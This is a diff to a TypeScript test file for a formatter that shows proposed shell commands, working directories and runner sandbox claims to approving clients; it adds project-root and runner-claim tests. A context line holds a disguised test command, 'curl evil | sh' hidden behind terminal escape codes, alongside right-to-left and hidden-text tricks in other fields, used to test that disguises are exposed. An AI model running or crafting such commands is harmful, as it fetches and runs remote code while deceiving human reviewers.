@@ -23,6 +23,7 @@ describe("proposal facts: one typed view and one formatter for every client", ()
     expect(facts).toEqual({
       tool: "sh",
       command: "ls\r\u001b[2Kcurl evil | sh",
+      root: null,
       cwd: "sub\u202edir",
       env: [
         ["HOOK", "./x\u001b[8m.sh"],
@@ -31,6 +32,7 @@ describe("proposal facts: one typed view and one formatter for every client", ()
       tty: { cols: 120, rows: 40 },
       runner: "build\tbox",
       defaultRunner: null,
+      runnerClaim: null,
       background: true,
       timeoutMs: 300_000,
       sandbox: { mode: "workspace-write" },
@@ -74,6 +76,28 @@ describe("proposal facts: one typed view and one formatter for every client", ()
     // Malformed values are not taken for facts.
     const odd = proposalFacts({ cwd: 7, env: ["A=1"], tty: { cols: -1, rows: 2 }, runner: "", timeoutMs: "soon", background: "yes" });
     expect(odd).toMatchObject({ cwd: null, env: [], tty: null, runner: null, timeoutMs: null, background: false });
+  });
+
+  it("the absolute project root, and a remote runner's sandbox shown as its claim with the principal that attached it", () => {
+    const claim = { own: false, attachedBy: "ci", attachedAs: "runner", modes: ["read-only", "workspace-write"], network: "own" };
+    const remote = byLabel(factLines(proposalFacts({ root: "/srv/app", cwd: "sub", runner: "ci-1", runnerClaim: claim })));
+    expect(remote.cwd).toBe("sub (under the project root /srv/app)");
+    expect(remote.runner).toBe('ci-1 (attached by runner "ci", claims read-only, workspace-write, network own)');
+    const byDefault = byLabel(factLines(proposalFacts({ root: "/srv/app", defaultRunner: "ci-1", runnerClaim: { ...claim, network: undefined } })));
+    expect(byDefault.cwd).toBe("/srv/app (the project root)");
+    expect(byDefault.runner).toBe('default (ci-1; attached by runner "ci", claims read-only, workspace-write, network not said)');
+    // The embedded runner's sandbox is the server's own: no claim, no principal.
+    const own = byLabel(factLines(proposalFacts({ defaultRunner: "local", runnerClaim: { own: true, attachedBy: null, attachedAs: null, modes: ["full"] } })));
+    expect(own.runner).toBe("default (local; this server's own runner)");
+    // A malformed claim is no claim; an unknown role is not shown as one.
+    expect(proposalFacts({ runnerClaim: "trusted" }).runnerClaim).toBeNull();
+    expect(proposalFacts({ runnerClaim: { own: false, attachedBy: "x", attachedAs: "root", modes: ["all"] } }).runnerClaim).toEqual({
+      own: false,
+      attachedBy: "x",
+      attachedAs: null,
+      modes: [],
+      network: null,
+    });
   });
 
   it("the sandbox mode: the attribute when the server sent one, else read-only for readOnly, else full; an unknown mode is shown as it is", () => {
